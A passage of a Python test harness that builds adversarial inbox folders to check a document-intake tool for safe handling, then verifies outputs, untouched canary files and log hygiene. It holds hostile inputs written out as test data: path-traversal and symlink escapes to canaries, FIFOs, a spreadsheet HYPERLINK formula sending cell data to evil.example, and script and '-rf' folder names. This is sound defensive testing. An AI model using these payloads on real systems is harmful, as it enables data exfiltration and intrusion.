                                  ' {"file": "x\\ud800.pdf", "slot": "other"}]}' % (n, f[0], f[1])).encode())
_manifest_raw("duplicates", "the same file listed three times, under two slots",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": f[0], "slot": "care_sheet"}, {"file": f[0], "slot": "invoice"},
                  {"file": f[0], "slot": "care_sheet"}, {"file": f[1], "slot": "invoice"}]}).encode())
_manifest_raw("absolute-path", "an entry naming an absolute path outside the inbox (a canary)",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": str(b.canary(n)), "slot": "care_sheet"}, {"file": f[1], "slot": "invoice"}]}).encode())
_manifest_raw("dotdot", "entries climbing out with ../ to canaries (from the inbox and from a claim area)",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": "../../outside/" + b.canary(n).name, "slot": "care_sheet"},
                  {"file": "../../../../../outside/" + b.canary(n).name, "slot": "invoice"},
                  {"file": f[0], "slot": "other"}, {"file": f[1], "slot": "other"}]}).encode())
_manifest_raw("self", "an entry naming manifest.json itself",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": "manifest.json", "slot": "care_sheet"}, {"file": f[1], "slot": "invoice"}]}).encode())
_manifest_raw("many-entries", "3000 entries naming absent files",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": f"{b.token(n)}-{i}.pdf", "slot": "other"} for i in range(3000)]}).encode())
_manifest_raw("windows-paths", "entries as Windows paths (C:\\Users\\...)",
              lambda b, n, g, f: json.dumps({"dossier_id": n, "documents": [
                  {"file": "C:\\Users\\client\\" + f[0], "slot": "care_sheet"},
                  {"file": "..\\..\\outside\\canary.txt", "slot": "invoice"}]}).encode())


@attack("manifest", "empty-documents")
def _(b):
    name = _n(b, "man-no-documents")
    b.write_manifest(b.folder(name), [])
    b.ready(name, "manifest", "a valid manifest listing no document, no file",
            decision=("request_documents",), reasons=("CARE_SHEET_MISSING", "INVOICE_MISSING"))


@attack("manifest", "csv-injection-fields")
def _(b):
    name = _n(b, "man-csv-injection")
    owner = name
    b.base(name, "manifest", "dossier_id '=HYPERLINK(...)' and file names starting with = + - @",
           replace={"cs": (f"={b.token(owner)}-cs.pdf", CS_PDF.read_bytes()),
                    "inv": (f"@{b.token(owner)}-inv.png", INV_PNG.read_bytes())},
           extra=[(f"+{b.token(owner)}-x.png", png_uniform(40, 40), "other"),
                  (f"-{b.token(owner)}-y.png", png_uniform(40, 40), "other")],
           manifest_fields={"dossier_id": '=HYPERLINK("http://evil.example/?x="&A1,"clic")'}, decision=None)


# special files ----------------------------------------------------------------------------------
def _special(tag: str, what: str, setup):
    def fn(b):
        name = _n(b, f"spec-{tag}")
        d = b.base(name, "special", what, decision=None)
        files = sorted(p.name for p in d.iterdir() if p.name != "manifest.json")
        extra = setup(b, d, name)
        m = json.loads((d / "manifest.json").read_text())
        m["documents"] += [{"file": e, "slot": s} for e, s in extra]
        (d / "manifest.json").write_text(json.dumps(m, ensure_ascii=False))
    attack("special", tag)(fn)


def _fifo(b, d, n):
    listed = b.secret(n, "listed-fifo", ".pdf")
    os.mkfifo(d / listed)
    os.mkfifo(d / b.secret(n, "unlisted-fifo", ".jpg"))
    return [(listed, "invoice")]


def _loop(b, d, n):
    a, c = b.secret(n, "loopA", ".pdf"), b.secret(n, "loopB", ".pdf")
    os.symlink(c, d / a)
    os.symlink(a, d / c)
    os.symlink(".", d / "sub")
    return [(a, "care_sheet"), ("sub/sub/sub/" + a, "other")]


def _folder_as_file(b, d, n):
    f = b.secret(n, "dossier", ".pdf")
    (d / f).mkdir()
    (d / f / "inner.pdf").write_bytes(CS_PDF.read_bytes()[:100])
    return [(f, "care_sheet")]


def _dev_zero(b, d, n):
    f = b.secret(n, "zero", ".pdf")
    os.symlink("/dev/zero", d / f)
    return [(f, "other")]


_special("fifo", "a FIFO listed as the invoice and one unlisted (opening either blocks)", _fifo)
_special("symlink-loop", "two symlinks naming each other, and a directory symlink to '.'", _loop)
_special("folder-as-file", "an entry naming a folder (.pdf)", _folder_as_file)
_special("dev-zero", "an entry symlinked to /dev/zero", _dev_zero)


# symlinks out of the inbox ---------------------------------------------------------------------
def _link(tag: str, what: str, setup):
    def fn(b):
        name = _n(b, f"link-{tag}")
        d = b.base(name, "symlink", what, decision=None)
        extra = setup(b, d, name)
        if extra:
            m = json.loads((d / "manifest.json").read_text())
            m["documents"] += [{"file": e, "slot": s} for e, s in extra]
            (d / "manifest.json").write_text(json.dumps(m, ensure_ascii=False))
    attack("symlink", tag)(fn)


def _listed(b, d, n):
    f = b.secret(n, "facture", ".pdf")
    os.symlink(b.canary(n), d / f)
    return [(f, "invoice")]


def _unlisted(b, d, n):
    os.symlink(b.canary(n), d / b.secret(n, "extra", ".pdf"))
    return []


def _relative(b, d, n):
    f = b.secret(n, "rel", ".pdf")
    os.symlink("../../outside/" + b.canary(n).name, d / f)
    g = b.secret(n, "rel-claimed", ".pdf")
    os.symlink("../../../../../outside/" + b.canary(n).name, d / g)
    return [(f, "other"), (g, "other")]


def _subdir(b, d, n):
    sub = b.outside / f"dir-{len(b.canaries):03d}"
    sub.mkdir()
    c = b.canary(n)
    os.rename(c, sub / c.name)
    b.canaries[f"{sub.name}/{c.name}"] = b.canaries.pop(c.name)
    os.symlink(sub, d / "docs")
    return [(f"docs/{c.name}", "other")]


def _manifest_link(b, d, n):
    os.unlink(d / "manifest.json")
    c = b.canary(n)
    c.write_text(json.dumps({"dossier_id": n, "documents": []}))
    b.canaries[c.name]["sha256"] = hashlib.sha256(c.read_bytes()).hexdigest()
    os.symlink(c, d / "manifest.json")
    return []


_link("listed", "an entry symlinked to a canary outside the inbox", _listed)
_link("unlisted", "an unlisted file symlinked to a canary outside the inbox", _unlisted)
_link("relative", "relative symlinks climbing out to a canary (from the inbox, from a claim area)", _relative)
_link("subdir", "a sub-folder symlinked to a folder outside, an entry inside it", _subdir)
_link("manifest", "manifest.json itself is a symlink to a file outside the inbox", _manifest_link)


@attack("symlink", "foreign-dossier")
def _(b):
    ext = b.outside / "evil-dossier"
    ext.mkdir()
    c = b.canary("H-link-foreign")
    f = b.secret("H-link-foreign", "cs", ".pdf")
    os.rename(c, ext / f)
    b.canaries[f"evil-dossier/{f}"] = b.canaries.pop(c.name)
    (ext / "manifest.json").write_text(json.dumps({"dossier_id": "H-link-foreign",
                                                   "documents": [{"file": f, "slot": "care_sheet"}]}))
    b.canaries["evil-dossier/manifest.json"] = {
        "owner": "H-link-foreign", "sha256": hashlib.sha256((ext / "manifest.json").read_bytes()).hexdigest()}
    os.symlink(ext, b.inbox / "H-link-foreign")
    b.other("H-link-foreign", "foreign", "symlink", "the inbox entry is a symlink to a dossier outside the inbox")


# folder names -----------------------------------------------------------------------------------
def _named(tag: str, names: list, what: str):
    def fn(b):
        for nm in names:
            b.base(nm, "names", what)
    attack("names", tag)(fn)


_named("space-underscore", ["D 1", "D_1"], "'D 1' and 'D_1' (the same once folded to a safe id)")
_named("nfc-nfd", [unicodedata.normalize("NFC", "D-é"), unicodedata.normalize("NFD", "D-é"),
                   unicodedata.normalize("NFC", "D-è"), unicodedata.normalize("NFD", "D-è")],
       "D-é and D-è, each in NFC and NFD (four distinct folders)")
_named("csv-equals", ["=1+1", "=HYPERLINK(\"http:\\\\evil\",\"x\")"], "folder names starting with =")
_named("csv-minus-plus", ["-2+3", "+1+1", "-rf"], "folder names starting with - or +")
_named("csv-at", ["@SUM(1+1)"], "a folder name starting with @")
_named("csv-tab-cr", ["\tD-tab", "\rD-cr"], "folder names starting with a tab, a CR")
_named("long-ascii", ["D-" + "x" * 248], "a 250-character folder name")
_named("long-accents", ["D-" + "é" * 126], "a 128-character, 254-byte folder name (é)")
_named("pipe", ["D|pipe|INVOICE_MISSING"], "a folder name holding | (the reasons separator)")
_named("script", ["<script>alert(1)<\\script>", "D'quote\",comma"], "HTML and quotes in folder names")
_named("newline", ["D\nnewline", "D-trailing-space ", " D-leading-space"], "a newline, leading/trailing spaces")
_named("leading-dot", [".D-hidden", "..D-dots"], "folder names starting with dots (ready: they hold manifest.json)")
_named("not-utf8", [b"D-caf\xe9-latin1", b"D-\xff\xfe"], "folder names that are not UTF-8")
_named("id-mismatch", ["D-2017-052200"], "a folder named like a sample dossier (other dossiers' ids nearby)")


# uploading and strays -------------------------------------------------------------------------
def _upl(tag: str, what: str, setup):
    def fn(b):
        name = f"U-{tag}"
        d = b.folder(name)
        setup(b, d, name)
        b.other(name, "uploading", "uploading", what)
    attack("uploading", tag)(fn)


_upl("partial", "no manifest: a PDF cut at 30 % and a JPEG cut at 10 %", lambda b, d, n: (
    (d / b.secret(n, "cs", ".pdf")).write_bytes(CS_PDF.read_bytes()[:CS_PDF.stat().st_size * 3 // 10]),
    (d / b.secret(n, "photo", ".jpg")).write_bytes(CS_JPG.read_bytes()[:CS_JPG.stat().st_size // 10])))
_upl("manifest-tmp", "manifest.json.tmp half written, the files complete", lambda b, d, n: (
    (d / b.secret(n, "cs", ".pdf")).write_bytes(CS_PDF.read_bytes()),
    (d / "manifest.json.tmp").write_text('{"dossier_id": "U-manifest-tmp", "documents": [')))
_upl("empty", "an empty folder", lambda b, d, n: None)
_upl("nested-manifest", "manifest.json only in a sub-folder", lambda b, d, n: (
    (d / "sub").mkdir(), (d / "sub" / "manifest.json").write_text('{"dossier_id": "nested", "documents": []}'),
    (d / b.secret(n, "inv", ".png")).write_bytes(INV_PNG.read_bytes())))
_upl("symlink-canary", "no manifest, a symlink to a canary", lambda b, d, n: os.symlink(b.canary(n), d / b.secret(n, "x", ".pdf")))
_upl("case", "'Manifest.JSON' (wrong case): not a manifest", lambda b, d, n: (
    (d / "Manifest.JSON").write_text('{"dossier_id": "U-case", "documents": []}'),))
_upl("manifest-dir", "manifest.json is a folder", lambda b, d, n: (d / "manifest.json").mkdir())
_upl("fifo", "no manifest, a FIFO", lambda b, d, n: os.mkfifo(d / b.secret(n, "pipe", ".pdf")))


@attack("uploading", "strays")
def _(b):
    f = b.secret("(inbox root)", "stray", ".pdf")
    (b.inbox / f).write_bytes(CS_PDF.read_bytes())
    b.other(f, "stray", "uploading", "a PDF lying at the inbox root")
    (b.inbox / "manifest.json").write_text('{"dossier_id": "root", "documents": []}')
    b.other("manifest.json", "stray", "uploading", "a manifest.json at the inbox root")
    os.symlink(b.canary("(inbox root)"), b.inbox / "stray-link")
    b.other("stray-link", "stray", "uploading", "a symlink at the inbox root to a canary")


FAMILIES = list(dict.fromkeys(f for f, _, _ in ATTACKS))
WEIGHT = {"manifest": 2}  # attacks per round: the richest family, whose attacks are one folder each


def select() -> list:
    """Every attack, round-robin over the families in priority order (build stops at `n` entries)."""
    by_family = {f: [a for a in ATTACKS if a[0] == f] for f in FAMILIES}
    chosen = []
    while len(chosen) < len(ATTACKS):
        for f in FAMILIES:
            for _ in range(WEIGHT.get(f, 1)):
                if by_family[f]:
                    chosen.append(by_family[f].pop(0))
    return chosen


def _mount_outside(outside: Path) -> str:
    outside.mkdir(parents=True, exist_ok=True)
    try:
        r = subprocess.run(["mount", "-t", "tmpfs", "-o", "strictatime,size=16m,mode=755", "tmpfs", str(outside)],
                           capture_output=True, text=True, timeout=20)
        if r.returncode == 0:
            return "tmpfs-strictatime"
        return f"no tmpfs ({r.stderr.strip()[:80]}): atime set before mtime, relatime catches a first read"
    except (OSError, subprocess.TimeoutExpired) as exc:
        return f"no tmpfs ({exc}): atime set before mtime, relatime catches a first read"


def _unmount(outside: Path) -> None:
    if os.path.ismount(outside):
        subprocess.run(["umount", "-l", str(outside)], check=False, capture_output=True)


def build(root: Path, n: int = 100, seed: int = 7, skip: tuple[str, ...] = ()) -> dict:
    """Write root/inbox (about `n` entries), root/outside (canaries), root/expect.json; return the expectation."""
    root = Path(root)
    if (root / "inbox").exists() or (root / "expect.json").exists():
        raise SystemExit(f"{root} already holds a hostile inbox: `clean` it first")
    root.mkdir(parents=True, exist_ok=True)
    b = Builder(root, random.Random(seed))
    b.inbox.mkdir()
    atime_mode = _mount_outside(b.outside)
    chosen = [a for a in select() if a[1] not in skip]  # skip: attacks already known to break the run
    done = 0
    for family, name, fn in chosen:
        if done >= n:
            break
        before = len(b.entries)
        fn(b)
        done += len(b.entries) - before
    k = 0
    while done < n:  # pad with disguised ordinary dossiers
        b.base(f"D-2017-8{k:05d}", "ordinary", "ordinary dossier A, client file names", which="AB"[k % 2])
        k, done = k + 1, done + 1
    for e in b.entries:
        e["tree"] = tree_digest(b.inbox / e["name"])
    # after every write: atime strictly before mtime, so even relatime moves it on a read; then note both
    for rel in b.canaries:
        p = b.outside / rel
        st = os.stat(p)
        os.utime(p, ns=(st.st_mtime_ns - 10 ** 9, st.st_mtime_ns))
        st = os.stat(p)
        b.canaries[rel].update({"atime_ns": st.st_atime_ns, "mtime_ns": st.st_mtime_ns, "size": st.st_size})
    expect = {"seed": seed, "n": n, "atime_mode": atime_mode,
              "entries": [{**e, "name_hex": os.fsencode(e.pop("name")).hex()} for e in b.entries],
              "canaries": b.canaries, "secrets": b.secrets,
              "outside_listing": sorted(_listing(b.outside)), "top_level": sorted(os.listdir(root))}
    (root / "expect.json").write_text(json.dumps(expect, ensure_ascii=False, indent=1))
    return expect


def _listing(top: Path) -> list[str]:
    out = []
    for dirpath, dirnames, filenames in os.walk(top):
        for x in dirnames + filenames:
            out.append(os.path.relpath(os.path.join(dirpath, x), top).encode("utf-8", "surrogateescape").hex())
    return out


def tree_digest(path: Path) -> str:
    """Names, types, contents and link targets under `path`, never following a link or opening a FIFO."""
    h = hashlib.sha256()

    def walk(p: str, rel: str) -> None:
        st = os.lstat(p)
        h.update(os.fsencode(rel) + b"\0")
        if os.path.islink(p):
            h.update(b"L" + os.fsencode(os.readlink(p)))
        elif os.path.isdir(p):
            h.update(b"D")
            for name in sorted(os.listdir(p)):
                walk(os.path.join(p, name), rel + "/" + name)
        elif os.path.isfile(p):
            with open(p, "rb") as f:
                for chunk in iter(lambda: f.read(1 << 20), b""):
                    h.update(chunk)
        else:
            h.update(b"S%o" % (st.st_mode >> 12))
        h.update(b"\1")

    if not os.path.lexists(path):
        return "absent"
    walk(str(path), ".")
    return h.hexdigest()


# --- the run ------------------------------------------------------------------------------------

def _pss(pid: int, fallback: int) -> int:
    """A process's proportional set size in bytes (/proc/PID/smaps_rollup), else `fallback`."""
    try:
        with open(f"/proc/{pid}/smaps_rollup") as f:
            m = re.search(r"^Pss:\s+(\d+) kB", f.read(), re.M)
    except OSError:
        return fallback
    return int(m.group(1)) * 1024 if m else fallback


def _tree_rss(pid: int) -> tuple[int, int]:
    """(sum of PSS over `pid` and its descendants, the largest one's RSS), bytes. PSS, not RSS: the
    dossiers are read in forked children that share the parent's pages; summing their RSS would count
    those pages once per child. PSS shares each page out between the processes that map it."""
    children: dict[int, list[int]] = {}
    rss: dict[int, int] = {}
    pss: dict[int, int] = {}
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/status") as f:
                txt = f.read()
        except OSError:
            continue
        ppid = int(re.search(r"^PPid:\s+(\d+)", txt, re.M).group(1))
        m = re.search(r"^VmRSS:\s+(\d+) kB", txt, re.M)
        children.setdefault(ppid, []).append(int(d))
        rss[int(d)] = int(m.group(1)) * 1024 if m else 0
        pss[int(d)] = _pss(int(d), rss[int(d)])
    total, biggest, todo = 0, 0, [pid]
    while todo:
        p = todo.pop()
        total += pss.get(p, 0)
        biggest = max(biggest, rss.get(p, 0))
        todo.extend(children.get(p, []))
    return total, biggest


def run_intake(root: Path, out: Path | None = None, archive: Path | None = None, workers: int = 2,
               timeout_s: float = RUN_TIMEOUT_S) -> dict:
    """`intake run root/inbox --out --archive --workers` in a fresh process; records rc, wall time, peak RSS."""
    root = Path(root)
    out, archive = out or root / "out", archive or root / "archive"
    rec_dir = root / ".hostile"
    rec_dir.mkdir(exist_ok=True)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [sys.executable, "-c", "from intake.cli import main; raise SystemExit(main())", "run",
           str(root / "inbox"), "--out", str(out), "--archive", str(archive), "--workers", str(workers)]
    peak = {"total": 0, "biggest": 0}
    with open(rec_dir / "stdout.txt", "wb") as so, open(rec_dir / "stderr.txt", "wb") as se:
        t0 = time.monotonic()
        proc = subprocess.Popen(cmd, cwd=REPO, env=env, stdout=so, stderr=se, start_new_session=True)
        stop = threading.Event()

        def sample() -> None:
            while not stop.is_set():
                total, biggest = _tree_rss(proc.pid)
                peak["total"], peak["biggest"] = max(peak["total"], total), max(peak["biggest"], biggest)
                stop.wait(0.2)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        timed_out = False
        try:
            rc = proc.wait(timeout=timeout_s)
        except subprocess.TimeoutExpired:
            timed_out = True
            os.killpg(proc.pid, 9)
            rc = proc.wait()
        wall = time.monotonic() - t0
        stop.set()
        sampler.join()
    rec = {"rc": rc, "timed_out": timed_out, "wall_s": round(wall, 1), "peak_rss": peak["total"],
           "peak_rss_biggest": peak["biggest"], "out": str(out), "archive": str(archive), "cmd": cmd[3:]}
    (rec_dir / "run.json").write_text(json.dumps(rec, indent=1))
    return rec


# --- the check ----------------------------------------------------------------------------------

@dataclass
class Verdict:
    results: list[tuple[str, str, str, list[tuple[str, str]]]] = field(default_factory=list)  # (id, status, what, issues)

    def add(self, pid: str, what: str, issues: list[tuple[str, str]], soft: bool = False) -> None:
        self.results.append((pid, "PASS" if not issues else ("WARN" if soft else "FAIL"), what, issues))

    @property
    def passed(self) -> bool:
        return all(s != "FAIL" for _, s, _, _ in self.results)

    def failures(self) -> dict[str, list[tuple[str, str]]]:
        return {p: i for p, s, _, i in self.results if s == "FAIL"}

    def table(self, limit: int = 40) -> str:
        lines = [f"{'property':<22} {'status':<6} what", "-" * 100]
        for pid, status, what, issues in self.results:
            lines.append(f"{pid:<22} {status:<6} {what}")
            for folder, why in issues[:limit]:
                lines.append(f"{'':<29}- {folder[:70]}: {why[:160]}")
            if len(issues) > limit:
                lines.append(f"{'':<29}  ... {len(issues) - limit} more")
        lines.append("-" * 100)
        lines.append(f"OVERALL: {'PASS' if self.passed else 'FAIL'}")
        return "\n".join(lines)


def _read_csv(path: Path, v_issues: list) -> list[dict[str, str]]:
    try:
        raw = path.read_bytes()
    except OSError as exc:
        v_issues.append((path.name, f"cannot read: {exc.__class__.__name__}"))
        return []
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError as exc:
        v_issues.append((path.name, f"not UTF-8 at byte {exc.start}"))
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8", "surrogateescape"), newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def _variants(name: str) -> set[str]:
    raw = name.encode("utf-8", "surrogateescape")
    return {name, raw.decode("utf-8", "replace"), raw.decode("utf-8", "backslashreplace"),
            raw.decode("latin-1"), name.encode("utf-8", "backslashreplace").decode("utf-8", "surrogateescape")}


def check(root: Path, out: Path | None = None, archive: Path | None = None) -> Verdict:
    """The verdict on a finished run over root's hostile inbox (see the module docstring)."""
    root = Path(root)
    rec_path = root / ".hostile" / "run.json"
    rec = json.loads(rec_path.read_text()) if rec_path.exists() else {}
    out = Path(out or rec.get("out") or root / "out")
    archive = Path(archive or rec.get("archive") or root / "archive")
    expect = json.loads((root / "expect.json").read_text(encoding="utf-8"))
    v = Verdict()

    # canaries first: nothing below may read them (a stat is not a read)
    canary_issues = []
    for rel, c in expect["canaries"].items():
        p = root / "outside" / rel
        try:
            st = os.stat(p)
        except OSError:
            canary_issues.append((c["owner"], f"{rel} is gone"))
            continue
        if st.st_atime_ns != c["atime_ns"]:
            canary_issues.append((c["owner"], f"{rel} was read (atime moved)"))
        if st.st_mtime_ns != c["mtime_ns"] or st.st_size != c["size"]:
            canary_issues.append((c["owner"], f"{rel} was written"))
        elif hashlib.sha256(p.read_bytes()).hexdigest() != c["sha256"]:
            canary_issues.append((c["owner"], f"{rel} content changed"))
    new_outside = sorted(set(_listing(root / "outside")) - set(expect["outside_listing"]))
    canary_issues += [("outside/", f"new entry {bytes.fromhex(h).decode('utf-8', 'replace')}") for h in new_outside]

    entries = expect["entries"]
    for e in entries:
        e["name"] = os.fsdecode(bytes.fromhex(e["name_hex"]))
        e["shown"] = shown(e["name"])
    ready = [e for e in entries if e["kind"] == "ready"]

    # exit code
    issues = []
    if not rec:
        issues.append(("(run)", "no .hostile/run.json: use `run`, or record the exit code yourself"))
    elif rec.get("timed_out"):
        issues.append(("(run)", f"killed after {rec['wall_s']} s (timeout)"))
    elif rec["rc"] != 0:
        tail = (root / ".hostile" / "stderr.txt").read_bytes()[-4000:].decode("utf-8", "replace")
        lines = [ln.strip() for ln in tail.splitlines() if ln.strip()]
        errors = [ln for ln in lines if re.match(r"^[\w.]+(Error|Exception)\b", ln)]  # the traceback's last line
        issues.append(("(run)", f"exit code {rec['rc']}: {(errors or lines or [''])[-1]}"))
    v.add("exit_code", "the run exited 0", issues)

    csv_issues: list = []
    rows = _read_csv(out / "dossiers.csv", csv_issues)
    doc_rows = _read_csv(out / "documents.csv", csv_issues)
    if rows and "folder" not in rows[0]:
        csv_issues.append(("dossiers.csv", "no folder column"))
    for col in ("dossier_id", "decision", "status_fr", "reasons", "message_fr", "processed_at"):
        if rows and col not in rows[0]:
            csv_issues.append(("dossiers.csv", f"no {col} column"))
    v.add("csv_readable", "dossiers.csv and documents.csv exist, UTF-8, contract columns", csv_issues)

    by_folder: dict[str, list[dict]] = {}
    for r in rows:  # a cell the CSV neutralised ('=1+1 for =1+1: results.store) names the folder it guards
        folder = r.get("folder", "")
        if folder.startswith("'") and folder[1:2] in ("=", "+", "-", "@", "\t", "\r", "'"):
            folder = folder[1:]
        by_folder.setdefault(folder, []).append(r)
    matched: dict[str, list[dict]] = {}
    for e in ready:
        matched[e["name"]] = [r for k in _variants(e["name"]) for r in by_folder.get(k, [])]

    v.add("one_row", "every ready folder has exactly one row in dossiers.csv",
          [(e["shown"], f"{len(matched[e['name']])} rows") for e in ready if len(matched[e["name"]]) != 1])

    issues = []
    for e in ready:
        for r in matched[e["name"]]:
            if r.get("decision") not in DECISIONS:
                issues.append((e["shown"], f"decision {r.get('decision')!r}"))
            elif r["decision"] != "accept" and not r.get("reasons"):
                issues.append((e["shown"], f"{r['decision']} with no reason"))
            elif r.get("status_fr") != STATUS_FR[r["decision"]]:
                issues.append((e["shown"], f"status_fr {r.get('status_fr')!r} for {r['decision']}"))
    v.add("decision_valid", "decision in the three values, a reason unless accept, status_fr to match", issues)

    known = {k for e in ready for k in _variants(e["name"])}
    issues = [(f, f"{len(rs)} rows share this folder") for f, rs in by_folder.items() if len(rs) > 1]
    issues += [(shown(f), "row for no ready folder (an uploading folder, a stray, a foreign link?)")
               for f in by_folder if f not in known]
    v.add("unique_key", "no two rows share a folder; no row for anything but a ready folder", issues)
    ids: dict[str, int] = {}
    for r in rows:
        ids[r.get("dossier_id", "")] = ids.get(r.get("dossier_id", ""), 0) + 1
    v.add("dossier_id_unique", "no two rows share a dossier_id (manifests may lie: warning)",
          [(shown(k), f"{n} rows") for k, n in ids.items() if n > 1], soft=True)

    # uploading folders and strays: byte-identical, still in the inbox
    issues = []
    for e in entries:
        if e["kind"] in ("uploading", "stray", "foreign"):
            now = tree_digest(root / "inbox" / e["name"])
            if e["kind"] == "foreign" and now == "absent":
                issues.append((e["shown"], "the symlink to an outside dossier was moved away (followed?)"))
            elif now != e["tree"]:
                issues.append((e["shown"], "gone from the inbox" if now == "absent" else "changed"))
    v.add("uploading_untouched", "folders still uploading and stray files: same names and bytes, in the inbox",
          issues)

    # ready folders: left the inbox, archived whole under their row's decision
    issues = []
    arch_entries: dict[str, list[tuple[str, str]]] = {}
    if archive.is_dir():
        for dec in os.listdir(archive):
            if os.path.isdir(archive / dec):
                for nm in os.listdir(archive / dec):
                    arch_entries.setdefault(re.sub(r"~\d+$", "", nm), []).append((dec, nm))
    for e in ready:
        if os.path.lexists(root / "inbox" / e["name"]):
            issues.append((e["shown"], "still in the inbox"))
            continue
        places = arch_entries.get(e["name"], [])
        if len(places) != 1:
            stuck = list((root / "inbox" / ".intake").glob("processing/*/" + glob_escape(e["name"])))
            issues.append((e["shown"], "left in a claim area (.intake/processing)" if stuck
                           else f"{len(places)} archive entries"))
            continue
        dec, nm = places[0]
        rs = matched[e["name"]]
        waits = rs and rs[0].get("needs_review") == "true" and dec == "review"  # not released: a person decides
        if rs and rs[0].get("decision") != dec and not waits:
            issues.append((e["shown"], f"archived under {dec}, row says {rs[0].get('decision')}"))
        if tree_digest(archive / dec / nm) != e["tree"]:
            issues.append((e["shown"], "archived copy differs from the upload"))
    v.add("archived_intact", "each ready folder moved to ARCHIVE/<its decision>/ (review/ when it waits for a "
          "person), unchanged", issues)

    v.add("outside_untouched", "canaries outside the inbox: not read (atime), not written, nothing new",
          canary_issues)
    if not expect["atime_mode"].startswith("tmpfs"):
        v.results[-1] = (*v.results[-1][:2], v.results[-1][2] + f" [warning: {expect['atime_mode']}]", v.results[-1][3])

    allowed = set(OWN) | set(expect["top_level"])
    v.add("no_stray_output", "nothing written in DIR outside inbox/, out/, archive/",
          [(nm, "appeared") for nm in sorted(set(os.listdir(root)) - allowed)])

    issues = []
    for fname, table in (("dossiers.csv", rows), ("documents.csv", doc_rows)):
        for r in table:
            for col, cell in r.items():
                if cell and cell[0] in "=+-@\t\r" and not (cell[0] in "+-" and _is_number(cell)):
                    issues.append((shown(r.get("folder") or r.get("dossier_id") or "?"),
                                   f"{fname} {col} = {cell[:50]!r}"))
    v.add("csv_injection", "no cell starts with = + - @ tab CR (numbers and a leading ' excepted)", issues)

    strict, soft = [], []
    for e in ready:
        rs = matched[e["name"]]
        if len(rs) != 1 or not (e.get("decision") or e.get("reasons") or e.get("forbid")):
            continue
        r = rs[0]
        reasons = set(filter(None, r.get("reasons", "").split("|")))
        why = []
        if e.get("decision") and r.get("decision") not in e["decision"]:
            why.append(f"decision {r.get('decision')}, expected {'/'.join(e['decision'])}")
        if set(e.get("reasons", [])) - reasons:
            why.append(f"missing {'|'.join(sorted(set(e['reasons']) - reasons))}")
        if set(e.get("forbid", [])) & reasons:
            why.append(f"unexpected {'|'.join(sorted(set(e['forbid']) & reasons))}")
        if why:
            item = (e["shown"], "; ".join(why) + f" (reasons {r.get('reasons') or '-'}; {e['attack']})")
            (strict if e["strict"] else soft).append(item)
    v.add("expected_decision", "decisions and reasons the contract makes certain", strict)
    v.add("disguise_decision", "a disguise alone should not change the decision (warning)", soft, soft=True)

    logs = b""
    for nm in ("stdout.txt", "stderr.txt"):
        p = root / ".hostile" / nm
        if p.exists():
            logs += p.read_bytes()
    leaks: dict[str, int] = {}
    for tok, owner in expect["secrets"].items():
        if tok.encode() in logs:
            leaks[owner] = leaks.get(owner, 0) + 1
    v.add("no_personal_data_log", "the run's stdout/stderr name no client file (CLIENT-SECRET-… tokens)",
          [(o, f"{n} client name(s) in the logs") for o, n in leaks.items()])

    issues = []
    if rec and rec["peak_rss"] >= MEMORY_LIMIT:
        issues.append(("(run)", f"peak memory (PSS) of the process tree {rec['peak_rss'] / 2**20:.0f} MiB"))
    v.add("peak_memory", f"peak memory (PSS, shared pages shared out) of the run's process tree < {MEMORY_LIMIT / 2**30:.0f} GiB"
          + (f" (was {rec['peak_rss'] / 2**20:.0f} MiB)" if rec else ""), issues)
    return v


def glob_escape(name: str) -> str:
    return re.sub(r"([*?\[])", r"[\1]", name)


def clean(root: Path) -> None:
    """Unmount root/outside and delete root."""
    root = Path(root)
    _unmount(root / "outside")
    shutil.rmtree(root, ignore_errors=True)


def summary(rec: dict) -> str:
    return (f"wall time {rec['wall_s']} s, exit code {rec['rc']}{' (TIMEOUT)' if rec['timed_out'] else ''}, "
            f"peak memory (PSS) {rec['peak_rss'] / 2**20:.0f} MiB (largest process RSS {rec['peak_rss_biggest'] / 2**20:.0f} MiB)")


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("build", help="write DIR/inbox, DIR/outside and DIR/expect.json")
    r = sub.add_parser("run", help="build if needed, run `intake run --archive`, check")
    for s in (b, r):
        s.add_argument("dir")
        s.add_argument("--n", type=int, default=100, help="entries of the inbox (default 100)")
        s.add_argument("--seed", type=int, default=7)
        s.add_argument("--skip", default="", help="comma-separated attack names to leave out (e.g. long-ascii)")
    r.add_argument("--workers", type=int, default=2)
    r.add_argument("--timeout", type=float, default=RUN_TIMEOUT_S, help="kill the run after this many seconds")
    c = sub.add_parser("check", help="the verdict on a finished run")
    c.add_argument("dir")
    c.add_argument("--out")
    c.add_argument("--archive")
    k = sub.add_parser("clean", help="unmount DIR/outside and delete DIR")
    k.add_argument("dir")
    a = p.parse_args(argv)
    root = Path(a.dir).resolve()
    if a.cmd == "build":
        e = build(root, a.n, a.seed, tuple(filter(None, a.skip.split(","))))
        print(f"{len(e['entries'])} entries in {root / 'inbox'}, {len(e['canaries'])} canaries; {e['atime_mode']}")
        return 0
    if a.cmd == "clean":
        clean(root)
        return 0
    if a.cmd == "run":
        if (root / ".hostile" / "run.json").exists():
            clean(root)
        if not (root / "expect.json").exists():
            t0 = time.monotonic()
            e = build(root, a.n, a.seed, tuple(filter(None, a.skip.split(","))))
            print(f"built {len(e['entries'])} entries in {time.monotonic() - t0:.0f} s ({e['atime_mode']})")
        rec = run_intake(root, workers=a.workers, timeout_s=a.timeout)
        print(summary(rec))
    v = check(root, getattr(a, "out", None), getattr(a, "archive", None))
    print(v.table())
    return 0 if v.passed else 1


if __name__ == "__main__":
    raise SystemExit(main())
